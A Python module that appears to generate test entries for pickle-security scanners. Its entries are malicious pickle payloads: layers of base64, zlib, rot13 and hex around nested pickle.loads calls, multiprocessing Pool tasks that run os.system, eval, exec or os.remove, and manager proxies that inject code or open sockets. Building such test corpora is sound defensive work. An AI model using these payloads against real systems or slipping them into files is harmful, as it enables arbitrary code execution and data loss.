"""Loaders inside the pickle, Pool tasks and manager proxies: code that runs one step later, or in another program.

The entries are as in gadgets.py.
"""
import base64
import codecs
import zlib

from assemble import Build, Call, Global, Native, at
from gadgets import BOUND, CMD, CODE, EVAL, PICKLE, SYSTEM, get


def loaders():
    data64, squeezed = base64.b64encode(PICKLE), zlib.compress(PICKLE)
    bytes_forms = {
        "bytes": PICKLE,
        "base64": Call("base64.b64decode", data64),
        "zlib": Call("zlib.decompress", squeezed),
        "hex": Call("binascii.unhexlify", PICKLE.hex()),
        "fromhex": Call(at("builtins.bytes.fromhex", 1), PICKLE.hex()),
        "b16": Call("base64.b16decode", PICKLE.hex().upper()),
        "b32": Call("base64.b32decode", base64.b32encode(PICKLE)),
        "b85": Call("base64.b85decode", base64.b85encode(PICKLE)),
        "encode": Call("codecs.encode", PICKLE.decode(), "latin1"),
        "bytes-encode": Call("_codecs.encode", PICKLE.decode(), "latin1"),
        "rot13": Call(
            "codecs.encode",
            Call(
                "codecs.decode",
                codecs.encode(PICKLE.decode(), "rot13"),
                "rot13",
            ),
            "ascii",
        ),
        "bytearray": Call("builtins.bytearray", PICKLE),
        "hex-codec": Call("codecs.decode", PICKLE.hex().encode(), "hex"),
        "base64-codec": Call("codecs.decode", data64, "base64"),
        "zlib-codec": Call("codecs.decode", squeezed, "zlib"),
        "concat": Call("operator.add", PICKLE[:7], PICKLE[7:]),
        "reversed": Call("builtins.bytes", Call("builtins.reversed", PICKLE[::-1])),
        "base64-zlib": Call("zlib.decompress", Call("base64.b64decode", base64.b64encode(squeezed))),
        "read": Call(get(Call("io.BytesIO", PICKLE), "read")),
        "join": Call(get(b"", "join"), [PICKLE[:7], PICKLE[7:]]),
    }
    for form, made in bytes_forms.items():
        for loader in ("pickle.loads", "_pickle.loads", "multiprocessing.reduction.ForkingPickler.loads"):
            name = loader.split(".")
            target = at(loader, 2) if loader.startswith("multi") else at(loader)
            yield "nested/%s/%s" % (loader, form), Call(target, made)
    stream = Call("io.BytesIO", PICKLE)
    yield "nested/pickle.load/bytesio", Call("pickle.load", stream)
    yield "nested/_pickle.load/bytesio", Call("_pickle.load", stream)
    yield "nested/unpickler", Call(at("pickle.Unpickler.load", 1), Call("pickle.Unpickler", stream))
    yield "nested/unpickler-getattr", Call(get(Call("_pickle.Unpickler", stream), "load"))
    yield "nested/pure-unpickler", Call(at("pickle._Unpickler.load", 1), Call("pickle._Unpickler", stream))
    yield "nested/file", Call("pickle.load", Call("builtins.open", "nested.pkl", "rb"))
    yield "nested/shelf", Call(at("shelve.Shelf.__getitem__", 1), Call("shelve.Shelf", {b"a": PICKLE}), "a")
    yield "nested/twice", Call("pickle.loads", b"cpickle\nloads\n(C\x23" + PICKLE[:35].ljust(35, b"0") + b"tR.")
    yield "nested/in-nested", Call("pickle.loads", b"cpickle\nloads\n(C" + bytes([len(PICKLE)]) + PICKLE + b"tR.")
    yield "nested/map", Call("builtins.list", Call("builtins.map", at("pickle.loads"), [PICKLE]))
    yield "nested/socket-receiver", Call(at("logging.handlers.SocketHandler.makePickle", 2), 1, 2)
    yield "nested/py2", Call("cPickle.loads", Native(PICKLE.decode())), {"protocols": (0, 1)}
    yield "nested/py2-pickle", Call("pickle.loads", Native(PICKLE.decode())), {"protocols": (0, 1)}
    yield "nested/marshal-code", Call("marshal.loads", b"N")
    yield "nested/np", Call("numpy.load", "nested.pkl", None, True)


def multiprocess():
    def task(function, *args):
        return (1, 0, function, args, {})

    as_task = {"role": "task"}
    yield "task/system", task(SYSTEM, CMD), as_task
    yield "task/eval", task(EVAL, CODE), as_task
    yield "task/exec", task(at("builtins.exec"), CODE), as_task
    yield "task/mapstar", task(at("multiprocessing.pool.mapstar"), (SYSTEM, (CMD,))), as_task
    yield "task/starmapstar", task(at("multiprocessing.pool.starmapstar"), (SYSTEM, ((CMD,),))), as_task
    yield "task/partial", task(BOUND), as_task
    yield "task/partial-arg", task(Call("functools.partial", EVAL), CODE), as_task
    yield "task/rebuild-partial", task(Call("multiprocessing.reduction._rebuild_partial", SYSTEM, (CMD,), {})), as_task
    yield "task/getattr", task(Call("builtins.getattr", at("shutil.os"), "system"), CMD), as_task
    yield "task/bound-method", task(get(Call("code.InteractiveInterpreter"), "runsource"), CODE), as_task
    yield "task/methodcaller", task(Call("operator.methodcaller", "system", CMD), at("shutil.os")), as_task
    yield "task/dotted", task(Global("shutil", "os.system"), CMD), as_task, {}
    yield "task/pickle", task(at("pickle.loads"), PICKLE), as_task
    yield "task/mapstar-partial", task(
        at("multiprocessing.pool.mapstar"), (Call("functools.partial", SYSTEM), (CMD,))
    ), as_task
    yield "task/list", [1, 0, SYSTEM, (CMD,), {}], as_task
    yield "task/map-object", task(at("builtins.list"), Call("builtins.map", SYSTEM, [CMD])), as_task
    yield "task/reduce", task(at("functools.reduce"), SYSTEM, [CMD, {}]), as_task
    yield "task/getattr-called", task(at("builtins.getattr"), Call("importlib.import_module", "os"), "system"), as_task
    yield "task/remove", task(at("os.remove"), "victim.txt"), as_task
    yield "task/keywords", (1, 0, at("subprocess.run"), (), {"args": ["touch", "executed"]}), as_task
    yield "task/process-chunk", task(at("concurrent.futures.process._process_chunk"), SYSTEM, [(CMD,)]), as_task
    yield "proxy/exposed-code", Call(
        "multiprocessing.managers.MakeProxyType", "X", ("f(self): pass\n" + CODE + "\ndef g",)
    )
    yield "proxy/autoproxy-exposed", Call(
        "multiprocessing.managers.AutoProxy",
        Call("multiprocessing.managers.Token", "x", None, "1"),
        "pickle",
        None,
        b"k",
        ("f(self): pass\n" + CODE + "\ndef g",),
        False,
    )
    yield "proxy/rebuild-function", Call("multiprocessing.managers.RebuildProxy", SYSTEM, CMD, "x", {})
    yield "proxy/rebuild-eval", Call("multiprocessing.managers.RebuildProxy", EVAL, CODE, None, {})
    yield "proxy/rebuild-partial-eval", Call(
        "multiprocessing.managers.RebuildProxy", Call("functools.partial", EVAL, CODE), {}, {}, {}
    )
    yield "proxy/rebuild-autoproxy", Call(
        "multiprocessing.managers.RebuildProxy",
        at("multiprocessing.managers.AutoProxy"),
        Call("multiprocessing.managers.Token", "x", None, "1"),
        "pickle",
        {"exposed": ("f(self): pass\n" + CODE + "\ndef g",), "authkey": b"k", "incref": False},
    )
    yield "proxy/connects", Call(
        "multiprocessing.managers.BaseProxy",
        Call("multiprocessing.managers.Token", "x", ("127.0.0.1", 9), "1"),
        "pickle",
        None,
        b"k",
    )
    yield "proxy/connects-rebuild", Call(
        "multiprocessing.managers.RebuildProxy",
        at("multiprocessing.managers.ListProxy"),
        Call("multiprocessing.managers.Token", "x", ("127.0.0.1", 9), "1"),
        "pickle",
        {},
    )
    yield "proxy/rebuild_connection", Call(
        "multiprocessing.connection.rebuild_connection",
        Build(Call("multiprocessing.resource_sharer.DupFd", by="newobj"), {"_id": (("127.0.0.1", 9), 1)}),
        True,
        True,
    )
    yield "proxy/rebuild_socket", Call(
        "multiprocessing.reduction._rebuild_socket",
        Build(Call("multiprocessing.resource_sharer.DupFd", by="newobj"), {"_id": (("127.0.0.1", 9), 1)}),
        2,
        1,
        0,
    )


def entries():
    for group in (loaders, multiprocess):
        for each in group():
            options = {}
            for more in each[2:]:
                options.update(more)
            yield each[0], each[1], options
